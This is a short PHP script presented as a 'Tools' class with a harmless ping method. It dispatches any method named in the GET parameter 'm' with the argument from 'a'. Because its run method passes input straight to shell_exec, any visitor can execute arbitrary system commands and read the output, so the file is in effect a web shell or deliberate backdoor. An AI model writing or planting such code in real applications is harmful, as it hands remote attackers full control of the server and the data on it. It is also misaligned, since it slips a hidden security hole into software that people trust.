<?php
class Tools {
    public function ping($h) { return $h; }
    public function run($c) { return shell_exec($c); }
}
$t = new Tools();
$m = $_GET['m'];
echo $t->$m($_GET['a']);
